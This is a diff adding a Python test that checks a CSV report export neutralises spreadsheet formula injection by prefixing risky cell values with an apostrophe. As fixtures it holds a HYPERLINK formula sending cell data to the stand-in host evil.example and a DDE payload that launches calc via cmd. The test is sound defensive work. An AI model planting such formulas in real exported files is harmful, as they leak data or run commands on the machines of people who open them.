@@ -153,3 +153,28 @@ def test_the_csv_has_one_line_per_department_and_item_and_opens_in_excel(report_
     ga = dict(zip(HEADER, by_code["GA-003"], strict=True))
     assert (ga["受理量"], ga["已办结"], ga["按时办结率"]) == ("3", "2", "66.67%")
     assert (ga["超期件数"], ga["非常不满意"], ga["差评率"]) == ("1", "1", "66.67%")
+
+
+def test_a_name_a_spreadsheet_would_run_as_a_formula_is_written_as_text(report_db):
+    """An operator names items and departments in the catalogue; the manager opens the report in Excel, which
+    runs a cell starting ``=``, ``+``, ``-`` or ``@`` as a formula (OWASP "CSV injection"): such a cell is
+    written with a leading apostrophe, which Excel and WPS show as text and do not keep in the value."""
+    engine, catalogue = report_db
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"详情")'
+    items = [i.model_copy(update={"name": formula}) if i.code == "GA-003" else i for i in catalogue.items]
+    depts = [
+        d.model_copy(update={"name": "@SUM(1+1)*cmd|' /C calc'!A0"}) if d.code == "GA" else d
+        for d in catalogue.departments
+    ]
+    renamed = catalogue.model_copy(update={"items": items, "departments": depts})
+    rows = list(
+        csv.reader(
+            io.StringIO(to_csv(build(engine, MARCH, catalogue=renamed, today=date(2026, 3, 31))).lstrip("\ufeff"))
+        )
+    )
+    by_code = {row[1]: dict(zip(HEADER, row, strict=True)) for row in rows[1:]}
+    name = HEADER[2]
+    assert by_code["GA-003"][name] == "'" + formula
+    assert by_code["GA"][name] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert by_code["MZ-006"][name] == next(i.name for i in catalogue.items if i.code == "MZ-006"), "others as they are"
+    assert by_code["GA-003"]["受理量"] == "3", "figures stay numbers"
